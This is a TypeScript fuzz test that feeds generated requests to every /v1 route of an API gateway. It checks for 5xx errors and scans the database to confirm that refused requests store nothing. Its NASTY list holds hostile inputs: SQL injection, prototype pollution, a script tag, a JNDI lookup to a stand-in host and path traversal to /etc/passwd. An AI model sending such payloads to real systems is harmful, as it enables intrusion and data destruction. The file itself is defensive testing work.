import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import fc from "fast-check";
import pg from "pg";
import { HTTP_STATUS } from "@aps/platform";
import { httpClient, type HttpResult } from "@aps/testkit";
import { buildOpenApi } from "@aps/api/openapi/document";
import { loadSkill } from "@aps/gateway/skill";
import { arbitraryOf, enumWords, resolver, type JsonSchema } from "../support/openapi-arbitraries.js";
import { availableModes, ROOT, startSystem, type System } from "../support/system.js";

/**
 * Property-based fuzzing of every `/v1` route (docs/design/edge.md#request-path). The routes, their path and
 * query parameters and their valid bodies are derived from the OpenAPI document's JSON Schemas
 * (test/support/openapi-arbitraries.ts, docs/design/edge.md#contract-checks): an operation is fuzzed the day it is
 * documented, with no entry here. fast-check builds requests from a valid one by dropping, retyping and adding fields, swapping the body for any JSON value or
 * hostile text (SQL/JSON injection look-alikes, U+0000, lone surrogates, 70 000 characters, emoji),
 * hostile path ids and query strings, and bad `Authorization`, `Content-Type` and `Idempotency-Key`
 * headers. Properties:
 * 1. every answer is 2xx or a documented 4xx problem+json (never a 5xx, never a stack trace);
 * 2. nothing from a refused request is stored: every string a request carries is tagged with a
 *    marker unique to that request, and after the run every text/json/bytea column of every schema
 *    of the real database is scanned — a marker may appear only if its request got a 2xx.
 *    (The identity service's `idempotency_keys` table is left out of the scan: it keeps the answer
 *    to a keyed request, refused or not, by design — docs/design/edge.md#request-path, Stripe semantics.)
 * Every answer also passes the contract check of test/support/contract.setup.ts (the document's
 * statuses, media types, bodies and headers; a request the document refuses must not get a 2xx).
 * The seed is fixed (FUZZ_SEED overrides it; FUZZ_RUNS sets the runs per route) so a failure is
 * reproducible; fast-check prints the shrunk counterexample.
 */
const real = (await availableModes()).includes("real");
if (!real)
  console.warn(
    "fuzz.test.ts: PostgreSQL/NATS are not reachable — fuzzing the embedded mode WITHOUT the database scan (property 2 is not checked)",
  );
const SEED = Number(process.env.FUZZ_SEED ?? 20261122);
const RUNS = Number(process.env.FUZZ_RUNS ?? 90);

/** Documented problem codes → status (docs/design/edge.md#request-path; the platform's table is the source). */
const DOCUMENTED_4XX = new Map(Object.entries(HTTP_STATUS).filter(([, s]) => s >= 400 && s < 500));

/** Strings an attacker or a sloppy client sends. */
const NASTY = [
  "' OR '1'='1",
  "'; DROP TABLE forum.posts; --",
  '" OR ""="',
  '{"$ne": null}',
  '{"__proto__": {"admin": true}}',
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff\ud800",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "${jndi:ldap://x.example/a}",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "\u202e\u0301\u200b",
  "🚀".repeat(300),
  "x".repeat(70_000),
  " ",
  "",
  "null",
  "true",
  "-1",
  "1e309",
  "NaN",
  "__proto__",
  "constructor",
];

const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

/** Enum words kept verbatim (a marker would make them invalid, and we want valid requests too): the document's. */
let enumWordsOfDoc: Set<string> | undefined;
const isEnumWord = (v: string) => (enumWordsOfDoc ??= enumWords(DOC)).has(v);

/** Prefixes every free-text string in `v` with `marker` (deeply); enum words and ids stay. */
function tag(v: unknown, marker: string): unknown {
  if (typeof v === "string") return isEnumWord(v) || /^(p|c|ext)_[0-9A-Z]{26}$/.test(v) ? v : marker + v;
  // Strings inside arrays (a post's tags, `[a-z0-9-]` only) stay as generated: an uppercase marker
  // would make every valid body invalid; the object's own strings (title, body…) carry it.
  if (Array.isArray(v)) return v.map((x) => (typeof x === "string" ? x : tag(x, marker)));
  if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, tag(x, marker)]));
  return v;
}

/** A body as the generator describes it: JSON to stringify, or raw text, or nothing. */
type Body = { json: unknown } | { raw: string } | { none: true };

/**
 * Bodies derived from `valid` (a valid body of the operation's schema, whose properties are
 * `keys`) — or anything, for a route that takes none or an empty object.
 */
function bodies(valid: Record<string, unknown> | undefined, keys: string[]): fc.Arbitrary<Body> {
  const anyJson = fc.jsonValue({ maxDepth: 3 });
  const arms: fc.Arbitrary<Body>[] = [
    anyJson.map((json) => ({ json })),
    hostile.map((raw) => ({ raw })),
    fc.constant<Body>({ none: true }),
  ];
  if (valid) arms.push(fc.constant<Body>({ json: valid }));
  if (valid && keys.length > 0) {
    arms.push(
      fc
        .constantFrom(...keys)
        .map((k) => ({ json: Object.fromEntries(Object.entries(valid).filter(([key]) => key !== k)) })),
      fc.tuple(fc.constantFrom(...keys), fc.oneof(anyJson, hostile)).map(([k, v]) => ({ json: { ...valid, [k]: v } })),
      fc.tuple(fc.constantFrom(...keys), hostile).map(([k, v]) => ({ json: { ...valid, [k]: v } })),
      fc
        .tuple(
          fc.string({ minLength: 1, maxLength: 12 }).filter((k) => !keys.includes(k)),
          anyJson,
        )
        .map(([k, v]) => ({ json: { ...valid, [k]: v } })),
    );
  } else {
    arms.push(
      fc.constant<Body>({ json: {} }),
      fc.dictionary(fc.string({ maxLength: 8 }), anyJson, { minKeys: 1, maxKeys: 3 }).map((json) => ({ json })),
    );
  }
  return fc.oneof(...arms);
}

/** Header values fetch can send (visible Latin-1, no CR/LF); anything else becomes '?'. */
const headerSafe = (s: string) => s.replace(/[^\x20-\x7e\xa0-\xff]/g, "?").slice(0, 8_000);

type Auth = "valid" | "none" | "other" | { header: string };
const auths: fc.Arbitrary<Auth> = fc.oneof(
  { weight: 4, arbitrary: fc.constant<Auth>("valid") },
  { weight: 1, arbitrary: fc.constant<Auth>("none") },
  { weight: 1, arbitrary: fc.constant<Auth>("other") },
  {
    weight: 2,
    arbitrary: fc.oneof(
      hostile.map((s) => ({ header: `Bearer ${headerSafe(s)}` })),
      fc.constantFrom(
        { header: `Bearer sk_src_${"A".repeat(49)}` },
        { header: "Basic dXNlcjpwYXNz" },
        { header: "Bearer" },
        { header: "bearer  sk_src_" },
        { header: `Bearer ${"sk_src_".repeat(200)}` },
      ),
    ),
  },
);
const contentTypes = fc.oneof(
  { weight: 6, arbitrary: fc.constant("application/json") },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "application/json; charset=utf-8",
      "application/json; charset=latin1",
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/merge-patch+json",
      "",
    ),
  },
  { weight: 1, arbitrary: hostile.map(headerSafe) },
);
const idemKeys = fc.option(fc.oneof(fc.uuid(), hostile.map(headerSafe)), { nil: undefined, freq: 3 });

/** Percent-encodes the UTF-8 bytes of `s` (lone surrogates become U+FFFD, as on the wire). */
const pct = (s: string) =>
  [...Buffer.from(s, "utf8")]
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, "0")}`,
    )
    .join("");

/** A path segment: a valid value most of the time, else hostile text (URL-encoded) or broken escapes. */
const segment = (valid: fc.Arbitrary<string>) =>
  fc.oneof(
    { weight: 3, arbitrary: valid.map((v) => pct(v)) },
    {
      weight: 3,
      arbitrary: fc.oneof(
        { weight: 2, arbitrary: hostile.map((s) => pct(s.slice(0, 300)) || "%20") },
        {
          weight: 1,
          arbitrary: fc.constantFrom(
            "%",
            "%zz",
            "%C0%AF",
            "%ED%A0%80",
            "%00",
            "..",
            "%2e%2e",
            "%2F",
            "p_01ARZ3NDEKTSV4RRFFQ69G5FAV",
            "ext_01ARZ3NDEKTSV4RRFFQ69G5FAV",
          ),
        },
      ),
    },
  );

/** A query string over `names` (plus unknown names), with repeats and hostile values. */
function queries(names: string[], validQuery: fc.Arbitrary<Record<string, string>>): fc.Arbitrary<string> {
  const pair = fc.tuple(
    fc.oneof(fc.constantFrom(...names), fc.string({ maxLength: 6 })),
    fc.oneof(
      hostile.map((s) => s.slice(0, 600)),
      fc.integer({ min: -5, max: 500 }).map(String),
    ),
  );
  return fc.oneof(
    validQuery.map((valid) => new URLSearchParams(valid).toString()),
    fc
      .tuple(validQuery, fc.array(pair, { maxLength: 4 }))
      .map(([valid, ps]) => new URLSearchParams([...Object.entries(valid), ...ps]).toString()),
    fc.array(pair, { maxLength: 4 }).map((ps) => new URLSearchParams(ps).toString()),
  );
}

interface Ctx {
  sys: System;
  /** Agent whose key is used for "valid" (a councillor and chief, so the council routes get deep). */
  key: string;
  /** Another agent's key ("other"). */
  otherKey: string;
  /** Keys that `POST /me/keys/rotate` may rotate (replaced from its answer). */
  rotating: { key: string };
  agentId: string;
  /** An agent the owner's access routes (suspend, reinstate, revoke keys) aim at (docs/design/identity-and-abuse.md#suspension-and-revocation). */
  victimId: string;
  postId: string;
}

/** One operation of the document, as the fuzzer drives it. */
interface Route {
  method: "GET" | "POST" | "PUT" | "PATCH" | "DELETE";
  /** The document's path without `/v1`, e.g. `/posts/{id}`. */
  name: string;
  operationId: string;
  path: (c: Ctx) => fc.Arbitrary<string>;
  /** Valid JSON bodies per the operation's request schema (undefined: the operation takes none). */
  body?: (c: Ctx) => fc.Arbitrary<Record<string, unknown>>;
  /** Names of the properties of the body schema (what the mutations drop, retype and add beside). */
  bodyKeys: string[];
  query?: { names: string[]; valid: (c: Ctx) => fc.Arbitrary<Record<string, string>> };
  /** Which Authorization the route gets as "valid" (from its security: ownerToken → admin). */
  authAs: "agent" | "admin" | "rotating";
}

/**
 * The OpenAPI document the gateway serves (docs/design/edge.md#the-openapi-document), built from the same zod schemas: the
 * fuzzer's routes, parameters and valid bodies all come from it (docs/design/edge.md#contract-checks), so an operation
 * is fuzzed as soon as it is documented.
 */
const DOC = buildOpenApi(loadSkill().version).document as unknown as {
  paths: Record<
    string,
    Record<
      string,
      {
        operationId: string;
        security?: Record<string, string[]>[];
        parameters?: { name: string; in: string; required?: boolean; schema: JsonSchema }[];
        requestBody?: { content: Record<string, { schema: JsonSchema }> };
        responses?: Record<string, { content?: Record<string, unknown> }>;
      }
    >
  >;
};
const resolve = resolver(DOC);

/** An absent post (the owner's hide aims here: hiding the fuzz target would change what the other routes test). */
const ABSENT_POST = "p_01ARZ3NDEKTSV4RRFFQ69G5FAV";
const ABSENT_COMMENT = "c_01ARZ3NDEKTSV4RRFFQ69G5FAV";
/** Operations on an agent that act on the victim, not on the fuzzer's own councillor. */
const ON_VICTIM = new Set(["suspendAgent", "reinstateAgent", "revokeKeys"]);

/**
 * A value of a path parameter or body field from the system under test, by name and example: a
 * post id is the fuzz target (an absent one for hidePost), a comment id an absent comment, an
 * agent id the councillor (the victim for suspend/reinstate/revoke). Undefined: generate it from
 * its schema.
 */
function fixture(name: string, schema: JsonSchema, operationId: string, c: Ctx): string | undefined {
  const example = typeof schema.example === "string" ? schema.example : "";
  if (name === "agentId" || example.startsWith("ext_")) return ON_VICTIM.has(operationId) ? c.victimId : c.agentId;
  if (example.startsWith("p_")) return operationId === "hidePost" ? ABSENT_POST : c.postId;
  if (example.startsWith("c_")) return ABSENT_COMMENT;
  if (name === "ids") return c.postId;
  // Any other prefixed id (e.g. wh_ of a webhook): an absent one of its kind, not a random string
  // that a URL would normalise away (`..`, ``) into another route.
  const prefixed = /^([a-z]+_)[0-9A-HJKMNP-TV-Z]{26}$/.exec(example);
  if (prefixed) return `${prefixed[1]}01ARZ3NDEKTSV4RRFFQ69G5FAV`;
  return undefined;
}

/** A valid value of `schema` as it travels in a URL (fixtures first). */
function urlValue(name: string, schema: JsonSchema, operationId: string, c: Ctx): fc.Arbitrary<string> {
  const f = fixture(name, schema, operationId, c);
  return f !== undefined ? fc.constant(f) : arbitraryOf(schema, resolve).map((v) => String(v));
}

/**
 * An operation that answers an event stream (`text/event-stream`, e.g. GET /events/stream): its
 * answer never ends, so a fuzz run cannot read it; its parameters are those of GET /events, which
 * is fuzzed, and the stream itself is tested in test/e2e/notifications.test.ts.
 */
const isEventStream = (op: { responses?: Record<string, { content?: Record<string, unknown> }> }) =>
  Object.values(op.responses ?? {}).some((r) => Object.hasOwn(r.content ?? {}, "text/event-stream"));

/** Every operation of the document, with arbitraries derived from its parameters and request schema. */
const ROUTES: Route[] = Object.entries(DOC.paths).flatMap(([template, item]) =>
  Object.entries(item)
    .filter(([, op]) => !isEventStream(op))
    .map(([method, op]): Route => {
      const params = op.parameters ?? [];
      const pathParams = params.filter((p) => p.in === "path");
      const queryParams = params.filter((p) => p.in === "query");
      const bodySchema = op.requestBody?.content["application/json"]?.schema;
      const resolved = bodySchema?.$ref ? resolve(bodySchema.$ref as string) : bodySchema;
      const name = template.replace(/^\/v1/, "");
      const security = (op.security ?? []).flatMap((s) => Object.keys(s));
      return {
        method: method.toUpperCase() as Route["method"],
        name,
        operationId: op.operationId,
        path: (c) =>
          fc
            .tuple(
              ...pathParams.map((p) =>
                segment(urlValue(p.name, p.schema, op.operationId, c)).map((v) => [p.name, v] as const),
              ),
            )
            .map((pairs) => pairs.reduce((path, [k, v]) => path.replace(`{${k}}`, v), name)),
        body: bodySchema
          ? (c) =>
              (arbitraryOf(bodySchema, resolve) as fc.Arbitrary<Record<string, unknown>>).map((b) =>
                Object.fromEntries(
                  Object.entries(b ?? {}).map(([k, v]) => [
                    k,
                    typeof v === "string" ? (fixture(k, {}, op.operationId, c) ?? v) : v,
                  ]),
                ),
              )
          : undefined,
        bodyKeys: Object.keys((resolved?.properties as object | undefined) ?? {}),
        query:
          queryParams.length > 0
            ? {
                names: queryParams.map((p) => p.name),
                valid: (c) =>
                  fc.record(
                    Object.fromEntries(queryParams.map((p) => [p.name, urlValue(p.name, p.schema, op.operationId, c)])),
                    { requiredKeys: queryParams.filter((p) => p.required).map((p) => p.name) },
                  ),
              }
            : undefined,
        authAs: security.includes("ownerToken") ? "admin" : op.operationId === "rotateKey" ? "rotating" : "agent",
      };
    }),
);

/** One generated request. */
interface Req {
  path: string;
  query: string;
  body: Body;
  auth: Auth;
  contentType: string;
  idempotencyKey: string | undefined;
}

const modes = real ? (["real"] as const) : (["embedded"] as const);

/**
 * The `/v1` routes the gateway defines, read from its route modules: the express routes of
 * services/gateway/src/routes (all mounted under /v1 except the /docs pages) and the operations
 * declared once in packages/api/src (`method` and `path` of each `defineRoute`,
 * docs/design/edge.md#routes-declared-once; `{id}` as express writes it, `:id`). The fuzzer must cover each of them.
 */
function gatewayV1Routes(): string[] {
  const dir = join(ROOT, "services/gateway/src/routes");
  const out: string[] = [];
  for (const f of readdirSync(dir).filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts") && f !== "docs.ts")) {
    for (const m of readFileSync(join(dir, f), "utf8").matchAll(/\.(get|post|put|patch|delete)\(\s*"(\/[^"]*)"/g))
      out.push(`${m[1]!.toUpperCase()} ${m[2]}`);
  }
  const api = join(ROOT, "packages/api/src");
  for (const f of readdirSync(api, { recursive: true, encoding: "utf8" })) {
    if (!f.endsWith(".ts") || f.endsWith(".test.ts")) continue;
    for (const m of readFileSync(join(api, f), "utf8").matchAll(
      /method: "(get|post|put|patch|delete)",\s*path: "([^"]*)"/g,
    ))
      out.push(`${m[1]!.toUpperCase()} ${m[2]!.replace(/\{(\w+)\}/g, ":$1") || "/"}`);
  }
  return [...new Set(out)].sort();
}

it("the fuzzer covers every /v1 route the gateway defines (its routes are the document's operations)", () => {
  const routes = gatewayV1Routes();
  expect(routes.length).toBeGreaterThan(20);
  // the event streams are the document's operations the fuzzer leaves out (see isEventStream)
  const streams = Object.entries(DOC.paths).flatMap(([template, item]) =>
    Object.entries(item)
      .filter(([, op]) => isEventStream(op))
      .map(([method]) => `${method.toUpperCase()} ${template.replace(/^\/v1/, "")}`),
  );
  expect(streams).toEqual(["GET /events/stream"]);
  expect(
    // the index `/v1` itself (docs/design/edge.md#index-405-and-404) is the route "/" of its router
    [...ROUTES.map((r) => `${r.method} ${r.name || "/"}`), ...streams]
      .map((n) => n.replace(/\{(\w+)\}/g, ":$1"))
      .sort(),
  ).toEqual(routes);
});

/**
 * A translation engine for the translation routes: a LibreTranslate-API stub in the test (no
 * translation engine runs here; test/e2e/translation.test.ts covers the real Apertium). It
 * answers each text with itself prefixed by the target language.
 */
async function startTranslationStub(): Promise<{ url: string; stop(): Promise<void> }> {
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c.toString()));
    req.on("end", () => {
      const q = JSON.parse(body || "{}") as { q?: string[] | string; target?: string };
      const texts = Array.isArray(q.q) ? q.q : [q.q ?? ""];
      res
        .writeHead(200, { "content-type": "application/json" })
        .end(JSON.stringify({ translatedText: texts.map((t) => `[${q.target}] ${t}`) }));
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: () => new Promise<void>((r) => (server.closeAllConnections(), server.close(() => r()))),
  };
}

describe.each(modes)("fuzzing every route (%s; translation engine: a LibreTranslate-API stub)", (mode) => {
  let sys: System;
  let ctx: Ctx;
  let seq = 0;
  /** marker → the request's route, status and whether it was accepted (2xx). */
  const sent = new Map<string, { route: string; status: number }>();
  const statusCounts = new Map<number, number>();
  const failures: string[] = [];

  let engine: Awaited<ReturnType<typeof startTranslationStub>>;

  beforeAll(async () => {
    engine = await startTranslationStub();
    sys = await startSystem(mode, {
      env: {
        POSTS_PER_DAY: "100000",
        COMMENTS_PER_DAY: "100000",
        JOINS_PER_SOURCE_PER_DAY: "100000",
        TRANSLATION_ENGINE: "libretranslate",
        LIBRETRANSLATE_URL: engine.url,
      },
    });
    const req = httpClient(sys.baseUrl);
    const a = await req("POST", "/join", { body: { name: "fuzz councillor" } });
    const b = await req("POST", "/join", { body: { name: "fuzz bystander" } });
    const r = await req("POST", "/join", { body: { name: "fuzz rotator" } });
    const v = await req("POST", "/join", { body: { name: "fuzz victim" } });
    for (const seat of ["councillor", "chief"]) {
      const g = await req("POST", "/admin/seats", {
        headers: { authorization: `Bearer ${sys.adminToken}` },
        body: { agentId: a.body.agentId, seat },
      });
      expect(g.status).toBeLessThan(300);
    }
    const p = await req("POST", "/posts", {
      key: b.body.apiKey,
      body: { title: "Fuzz target", body: "A proposal the fuzzer aims at.", is_arch_design: true },
    });
    expect(p.status).toBe(201);
    ctx = {
      sys,
      key: a.body.apiKey,
      otherKey: b.body.apiKey,
      rotating: { key: r.body.apiKey },
      agentId: a.body.agentId,
      victimId: v.body.agentId,
      postId: p.body.id,
    };
  }, 240_000);

  afterAll(async () => {
    await sys?.stop();
    await engine?.stop();
  });

  /** Sends one generated request and checks property 1; records the marker for property 2. */
  async function send(route: Route, r: Req): Promise<void> {
    const marker = `FUZZMARK${(++seq).toString(36)}X`;
    const headers: Record<string, string> = {};
    const authAs = route.authAs;
    if (r.auth === "valid") {
      headers.authorization = `Bearer ${authAs === "admin" ? sys.adminToken : authAs === "rotating" ? ctx.rotating.key : ctx.key}`;
    } else if (r.auth === "other") headers.authorization = `Bearer ${ctx.otherKey}`;
    else if (r.auth !== "none") headers.authorization = r.auth.header;
    if (r.idempotencyKey !== undefined) headers["idempotency-key"] = marker + r.idempotencyKey;
    let payload: string | undefined;
    if ("json" in r.body) {
      payload = JSON.stringify(tag(r.body.json, marker));
    } else if ("raw" in r.body) payload = marker + r.body.raw;
    if (payload !== undefined && r.contentType !== "") headers["content-type"] = r.contentType;
    const query = r.query ? `?${r.query}` : "";
    const url = `${sys.baseUrl}${r.path}${query}`;
    const res = await fetch(url, { method: route.method, headers, body: route.method === "GET" ? undefined : payload });
    const text = await res.text();
    sent.set(marker, { route: `${route.method} ${route.name}`, status: res.status });
    statusCounts.set(res.status, (statusCounts.get(res.status) ?? 0) + 1);
    const label = `${route.method} ${(r.path + query).slice(0, 200)} auth=${typeof r.auth === "string" ? r.auth : "custom"} ct=${JSON.stringify(r.contentType)} body=${(payload ?? "").slice(0, 200)}`;
    const ct = res.headers.get("content-type") ?? "";
    if (res.status >= 500) failures.push(`${res.status} ${label}: ${text.slice(0, 300)}`);
    expect({ label, status: res.status, fiveXX: res.status >= 500 }).toEqual({
      label,
      status: res.status,
      fiveXX: false,
    });
    expect(text).not.toMatch(/\n\s+at [\w.<>]+ \(|\.(?:ts|js):\d+:\d+/);
    if (res.status >= 400) {
      const result: HttpResult = {
        status: res.status,
        headers: res.headers,
        body: /json/.test(ct) ? JSON.parse(text) : text,
        text,
      };
      expect({ label, ct }).toEqual({ label, ct: expect.stringMatching(/^application\/problem\+json/) });
      expect({ label, code: result.body.code, status: DOCUMENTED_4XX.get(result.body.code) }).toEqual({
        label,
        code: result.body.code,
        status: res.status,
      });
      expect(result.body.status).toBe(res.status);
    } else {
      expect([200, 201, 204]).toContain(res.status);
      if (route.authAs === "rotating" && r.auth === "valid" && res.status === 200) {
        const answer = JSON.parse(text);
        expect(typeof answer.apiKey).toBe("string");
        ctx.rotating.key = answer.apiKey;
      }
    }
  }

  it.each(ROUTES.map((r) => [`${r.method} ${r.name}`, r] as const))(
    "%s: every answer is 2xx or a documented 4xx problem",
    async (_name, route) => {
      const req: fc.Arbitrary<Req> = fc.record({
        path: route.path(ctx),
        query: route.query ? queries(route.query.names, route.query.valid(ctx)) : fc.constant(""),
        body:
          route.method === "GET"
            ? fc.constant<Body>({ none: true })
            : route.body
              ? route.body(ctx).chain((valid) => bodies(valid, route.bodyKeys))
              : bodies(undefined, []),
        auth: auths,
        contentType: contentTypes,
        idempotencyKey: route.method === "GET" ? fc.constant(undefined) : idemKeys,
      });
      await fc.assert(
        fc.asyncProperty(req, (r) => send(route, r)),
        { seed: SEED + route.name.length * 31 + route.method.length, numRuns: RUNS, endOnFailure: true },
      );
      expect(failures).toEqual([]);
    },
  );

  it("stores nothing from a refused request (every column of every schema scanned for the markers)", async () => {
    const total = [...statusCounts.values()].reduce((a, b) => a + b, 0);
    console.log(
      `fuzz (${mode}): ${total} requests over ${ROUTES.length} routes; statuses ${JSON.stringify(Object.fromEntries([...statusCounts].sort((a, b) => a[0] - b[0])))}`,
    );
    expect(total).toBe(ROUTES.length * RUNS);
    const refused = [...sent.values()].filter((s) => s.status >= 400).length;
    expect(refused).toBeGreaterThan(total / 2);
    if (!real) {
      console.warn(
        "fuzz.test.ts: no real PostgreSQL here — the database scan for refused requests' markers was NOT run",
      );
      return;
    }
    const client = new pg.Client({ connectionString: sys.env!.DATABASE_URL });
    await client.connect();
    try {
      const cols = await client.query<{ s: string; t: string; c: string; d: string }>(
        `SELECT c.table_schema AS s, c.table_name AS t, c.column_name AS c, c.data_type AS d
           FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
          WHERE t.table_type = 'BASE TABLE' AND c.table_schema NOT IN ('pg_catalog', 'information_schema')
            AND c.data_type IN ('text', 'character varying', 'jsonb', 'json', 'bytea', 'ARRAY')`,
      );
      const scanned = cols.rows.filter((col) => col.t !== "idempotency_keys");
      expect(scanned.length).toBeGreaterThan(10);
      const found = new Map<string, string>();
      for (const col of scanned) {
        const ident = (x: string) => `"${x.replaceAll('"', '""')}"`;
        const expr = col.d === "bytea" ? `encode(${ident(col.c)}, 'escape')` : `${ident(col.c)}::text`;
        const rows = await client.query<{ v: string }>(
          `SELECT ${expr} AS v FROM ${ident(col.s)}.${ident(col.t)} WHERE ${expr} LIKE '%FUZZMARK%'`,
        );
        for (const row of rows.rows)
          for (const m of row.v.matchAll(/FUZZMARK[0-9a-z]+X/g)) found.set(m[0], `${col.s}.${col.t}.${col.c}`);
      }
      const storedFromRefused = [...found]
        .filter(([m]) => (sent.get(m)?.status ?? 0) >= 300)
        .map(([m, where]) => `${m} (${sent.get(m)?.route} → ${sent.get(m)?.status}) in ${where}`);
      expect(storedFromRefused).toEqual([]);
      // The scan can see what was stored: accepted writes that carried text left their markers.
      const acceptedPosts = [...sent].filter(([, s]) => s.route === "POST /posts" && s.status === 201).map(([m]) => m);
      expect(acceptedPosts.length).toBeGreaterThan(0);
      for (const m of acceptedPosts) expect(found.has(m)).toBe(true);
      console.log(
        `fuzz (${mode}): ${scanned.length} columns scanned; ${found.size} markers stored, all from 2xx requests; ${refused} refused requests left nothing`,
      );
    } finally {
      await client.end();
    }
  }, 240_000);
});
